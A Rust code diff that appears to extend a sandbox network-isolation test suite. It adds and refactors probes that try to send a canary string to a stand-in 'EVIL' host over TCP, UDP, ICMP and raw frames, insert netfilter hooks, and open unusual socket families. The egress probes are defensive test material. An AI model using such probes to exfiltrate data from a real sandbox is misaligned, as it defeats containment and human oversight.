@@ -11,7 +11,7 @@ use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg, sendto, set
 use rustix::net::{AddressFamily, Protocol, SocketType};
 
 use super::effects::socket;
-use super::{Ctx, Failed, Run, raw, send, target};
+use super::{Ctx, Failed, Run, hook, raw, send, target};
 
 const HIGH: u16 = 9999;
 const TCP: u16 = 9000;
@@ -77,18 +77,10 @@ pub(super) const CODE: &[(&str, Run)] = &[
         sendto(fd.as_raw_fd(), c.canary.as_bytes(), &to, MsgFlags::empty())?;
         Ok("sent".to_owned())
     }),
-    ("ip-ping", |c| {
-        let fd =
-            rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(rustix::net::ipproto::ICMP))?;
-        let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, 0));
-        sendto(
-            fd.as_raw_fd(),
-            &crate::fakenet::probe::echo_request(c.canary.as_bytes()),
-            &to,
-            MsgFlags::empty(),
-        )?;
-        Ok("sent".to_owned())
-    }),
+    ("ip-other-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
+    ("ip-other-ping", ping),
+    ("ip-root-udp", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
+    ("ip-ping", ping),
     ("ip-broadcast", |c| {
         let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
         socket.set_broadcast(true)?;
@@ -142,6 +134,8 @@ pub(super) const CODE: &[(&str, Run)] = &[
         socket.send_to(c.canary.as_bytes(), (target::EVIL, HIGH))?;
         Ok("sent".to_owned())
     }),
+    ("ip-foreign-table", |c| hook::turn(50, &c.canary)),
+    ("ip-foreign-table-last", |c| hook::turn(i32::MAX, &c.canary)),
     ("ip-packet", |c| raw::frame(&raw::ipv4_frame(&raw::udp(c.canary.as_bytes())))),
     ("ip-packet-dns", |c| {
         let message = super::dns::query(&c.name(), 1);
@@ -156,6 +150,11 @@ pub(super) const CODE: &[(&str, Run)] = &[
     ("socket-raw", |_| opened(AddressFamily::INET, SocketType::RAW, Some(17))),
     ("socket-alg", |_| opened(AddressFamily::from_raw(38), SocketType::SEQPACKET, None)),
     ("socket-netfilter", |_| opened(AddressFamily::NETLINK, SocketType::RAW, Some(12))),
+    ("socket-sctp", |_| opened(AddressFamily::INET, SocketType::STREAM, Some(132))),
+    ("socket-dccp", |_| opened(AddressFamily::INET, SocketType::from_raw(6), Some(33))),
+    ("socket-xdp", |_| opened(AddressFamily::from_raw(44), SocketType::RAW, None)),
+    ("socket-bluetooth", |_| opened(AddressFamily::from_raw(31), SocketType::RAW, Some(1))),
+    ("socket-raw-6", |_| opened(AddressFamily::INET6, SocketType::RAW, Some(17))),
     ("socket-vsock", |_| opened(AddressFamily::from_raw(40), SocketType::STREAM, None)),
 ];
 
@@ -166,6 +165,18 @@ pub(super) const CODE: &[(&str, Run)] = &[
 pub fn later(canary: &str) -> std::io::Result<()> {
     let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
     socket.send_to(canary.as_bytes(), (target::EVIL, HIGH)).map(drop)
+}
+
+fn ping(c: &Ctx) -> Result<String, Failed> {
+    let fd = rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(rustix::net::ipproto::ICMP))?;
+    let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, 0));
+    sendto(
+        fd.as_raw_fd(),
+        &crate::fakenet::probe::echo_request(c.canary.as_bytes()),
+        &to,
+        MsgFlags::empty(),
+    )?;
+    Ok("sent".to_owned())
 }
 
 fn many(c: &Ctx) -> Result<String, Failed> {
